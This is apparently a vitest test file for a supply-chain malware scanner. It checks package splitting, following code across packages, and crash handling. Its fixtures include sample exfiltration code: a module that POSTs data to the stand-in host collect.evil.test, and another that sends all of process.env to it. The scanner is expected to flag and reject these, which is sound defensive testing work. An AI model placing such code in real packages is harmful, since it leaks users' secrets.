import { expect, test } from 'vitest';
import type { Artifact } from '../../src/model/artifact.ts';
import type { Failure } from '../../src/model/failure.ts';
import { inspect } from '../../src/scan/inspect.ts';
import { inspectInParts, type LookAt, type Part } from '../../src/scan/inspect-in-parts.ts';
import { inspectUnits } from '../../src/scan/inspect-units.ts';
import { judge } from '../../src/scan/judge.ts';
import { limits } from '../../src/scan/limits.ts';
import { unitsOf } from '../../src/scan/units.ts';
import { finding, inspection } from './finding.ts';

const lookAt: LookAt = ({ artifact, units }) => (units ? inspectUnits(artifact, units) : inspect(artifact));

function artifact(files: Readonly<Record<string, string>>, name = 'project'): Artifact {
  const list = Object.entries(files).map(([path, text]) => ({ path, bytes: Buffer.from(text) }));
  return { name, files: list, skipped: [] };
}

/** Large enough to be looked at package by package. */
function large(files: Readonly<Record<string, string>>, name?: string): Artifact {
  const small = artifact(files, name);
  const data = { path: 'node_modules/data/table.bin', bytes: new Uint8Array(limits.worker.maxBytesWhole) };
  const manifest = { path: 'node_modules/data/package.json', bytes: Buffer.from('{"name":"data","version":"1.0.0"}') };
  return { ...small, files: [...small.files, manifest, data] };
}

const manifest = (name: string) => JSON.stringify({ name, version: '1.0.0', main: 'index.js' });

const sender = `module.exports = (data) => fetch('https://collect.evil.test/in', { method: 'POST', body: data });`;

test.each([
  ['in a project', 'node_modules/', 'project'],
  ['in a folder of packages', '', '/somewhere/node_modules'],
])('units are the packages %s, and the rest', (_, shelf, name) => {
  const units = unitsOf(
    artifact(
      {
        'README.md': '# x',
        [`${shelf}a/package.json`]: '{}',
        [`${shelf}a/lib/x.js`]: '',
        [`${shelf}a/esm/package.json`]: '{"type":"module"}',
        [`${shelf}a/node_modules/@s/b/package.json`]: '{}',
        [`${shelf}a/node_modules/@s/b/index.js`]: '',
      },
      name,
    ),
  );
  expect(units.map(({ folder, files }) => [folder, files.length])).toEqual([
    ['', 1],
    [`${shelf}a`, 3],
    [`${shelf}a/node_modules/@s/b`, 2],
  ]);
});

test('units are the distributions of a version', () => {
  const files = { 'sdist/setup.py': '', 'sdist/tool/a.py': '', 'wheel/tool/a.py': '' };
  const told = { kind: 'wheel', fileName: 'x', url: 'https://index.example/x', sha256: '0'.repeat(64) } as const;
  const distributions = ['sdist', 'wheel'].map((folder) => ({ ...told, folder }));
  const source = { type: 'pypi', requestedUrl: 'pypi:tool', resolvedUrl: 'pypi:tool@1', distributions } as const;
  const units = unitsOf({ ...artifact(files), source });
  expect(units.map(({ folder, files: own }) => [folder, own.length])).toEqual([
    ['sdist', 2],
    ['wheel', 1],
  ]);
});

const chain = {
  'package.json': manifest('app'),
  'node_modules/collector/package.json': manifest('collector'),
  'node_modules/collector/index.js': `const send = require('sender');\nsend(JSON.stringify(process.env));`,
  'node_modules/sender/package.json': manifest('sender'),
  'node_modules/sender/index.js': sender,
};

test('a chain over two packages of a large artifact is found as in a small one', async () => {
  const [small, split] = await Promise.all([
    inspectInParts(artifact(chain), lookAt, 1),
    inspectInParts(large(chain), lookAt, 2),
  ]);
  const dump = { ruleId: 'data-exfiltration/env-dump', at: { file: 'node_modules/sender/index.js', line: 1 } };
  expect(small.findings).toContainEqual(expect.objectContaining({ ...dump, at: expect.objectContaining(dump.at) }));
  expect(split.findings).toContainEqual(expect.objectContaining({ ...dump, at: expect.objectContaining(dump.at) }));
  expect(split.findings[0]!.evidence.map(({ file }) => file)).toContain('node_modules/collector/index.js');
  expect(judge(split).verdict).toBe('REJECT');
});

test('a path into another package is followed', async () => {
  const { findings } = await inspectInParts(
    large({
      'node_modules/a/package.json': manifest('a'),
      'node_modules/a/index.js': `require('../b/hidden.js')(JSON.stringify(process.env));`,
      'node_modules/b/hidden.js': sender,
    }),
    lookAt,
    1,
  );
  expect(findings.map(({ ruleId, at }) => [ruleId, at.file])).toContainEqual([
    'data-exfiltration/env-dump',
    'node_modules/b/hidden.js',
  ]);
});

test('every file is looked at once, and a package that breaks its worker costs only itself', async () => {
  const parts: Part[] = [];
  const crash: Failure = { stage: 'worker', code: 'worker-crashed', message: 'The analysis ended early: test' };
  const all = large({ ...chain, 'node_modules/bad/package.json': manifest('bad'), 'node_modules/bad/index.js': '' });
  const answer = await inspectInParts(
    all,
    async (part) => {
      parts.push(part);
      return part.units?.some(({ folder }) => folder === 'node_modules/bad') ? crash : lookAt(part);
    },
    2,
  );
  expect(answer.failures).toEqual([{ ...crash, path: 'node_modules/bad' }]);
  expect(answer.filesTotal).toBe(all.files.length);
  expect(answer.filesScanned).toBe(all.files.length - 2);
  expect(judge(answer).verdict).toBe('REJECT');
  // The small ones shared a task until one of them broke it.
  expect(parts.map(({ units }) => units?.length)).toContain(4);
});

test('things of different packages do not come together', () => {
  const comeTogether = (units: readonly [string, string]) => {
    const [some, others] = units.map((unit) => ({ unit, severity: 'MEDIUM', trigger: 'import' }) as const);
    const findings = [finding({ ...some, family: 'url_analyzer' }), finding({ ...others, family: 'permission_abuse' })];
    return judge(inspection(findings)).breakdown.some(({ because }) => because.includes('come together'));
  };
  expect(comeTogether(['a', 'a'])).toBe(true);
  expect(comeTogether(['a', 'b'])).toBe(false);
});
